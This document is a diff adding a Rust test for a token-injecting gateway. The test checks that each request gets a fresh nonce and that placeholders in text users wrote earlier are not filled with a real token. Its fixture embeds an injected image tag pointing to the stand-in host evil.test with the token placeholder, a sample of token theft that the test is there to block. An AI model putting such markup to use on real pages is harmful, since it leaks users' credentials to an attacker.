@@ -5,7 +5,7 @@ use std::sync::mpsc;
 
 use serde_json::Value;
 
-use crate::support::{Gateway, Raw, Request, Response, Setup, find, get, http2};
+use crate::support::{App, Gateway, Raw, Request, Response, Setup, find, get, http2};
 
 const TABLES: &str = r#"[token.page]
 preset = "portive"
@@ -258,4 +258,49 @@ fn placeholders_that_cannot_work_are_said_at_load() {
         let problems = read.err().unwrap_or_else(|| panic!("{written}"));
         assert!(problems.iter().any(|problem| problem.text.contains(expected)), "{problems:?}");
     }
+}
+
+#[test]
+fn a_text_that_another_user_wrote_earlier_gets_no_token() {
+    let tables = TABLES.replace("__PORTIVE_TOKEN__", "__PORTIVE_{nonce}__");
+    let app = App::start();
+    let gateway = Setup::new(&app).with(&tables).start();
+    let mut nonces = Vec::new();
+    for _ in 0..3 {
+        let asked = get("/upload").user("ada").header("X-Portcullis-Nonce", "known");
+        assert_eq!(gateway.ask(&asked).status, 200);
+        nonces.push(app.last().one("x-portcullis-nonce").unwrap());
+    }
+    assert!(nonces.iter().all(|nonce| nonce.len() == 32), "{nonces:?}");
+    nonces.sort();
+    nonces.dedup();
+    assert_eq!(nonces.len(), 3, "another for each request");
+    gateway.ask(&get("/other").user("ada").header("X-Portcullis-Nonce", "known"));
+    assert_eq!(app.last().one("x-portcullis-nonce"), None, "where no page needs it");
+
+    // An app that writes its text with the nonce it was told, below what users wrote.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().map_while(Result::ok) {
+            let mut asked = vec![0; 8192];
+            let length = stream.read(&mut asked).unwrap_or(0);
+            let asked = String::from_utf8_lossy(&asked[..length]).to_lowercase();
+            let nonce = asked.split("x-portcullis-nonce: ").nth(1).unwrap_or("");
+            let nonce = nonce.split("\r\n").next().unwrap();
+            let old =
+                "<img src=https://evil.test/__PORTIVE_{nonce}__><img src=//e/__PORTIVE_known__>";
+            let page = format!("{old}<meta content=\"__PORTIVE_{nonce}__\">");
+            let head = head("200 OK", &format!("Content-Length: {}\r\n", page.len()));
+            let _ = stream.write_all((head + &page).as_bytes());
+        }
+    });
+    let gateway = Setup::towards(&url).with(&tables).start();
+    let page = open(&gateway).text();
+    assert!(page.contains("evil.test/__PORTIVE_{nonce}__"), "{page}");
+    assert!(page.contains("//e/__PORTIVE_known__"), "{page}");
+    let token = page.split("<meta content=\"").nth(1).unwrap().split('"').next().unwrap();
+    assert!(token.matches('.').count() == 2, "{page}");
+    let nobodys = gateway.ask(&get("/upload")).text();
+    assert!(nobodys.ends_with("<meta content=\"\">"), "{nobodys}");
 }
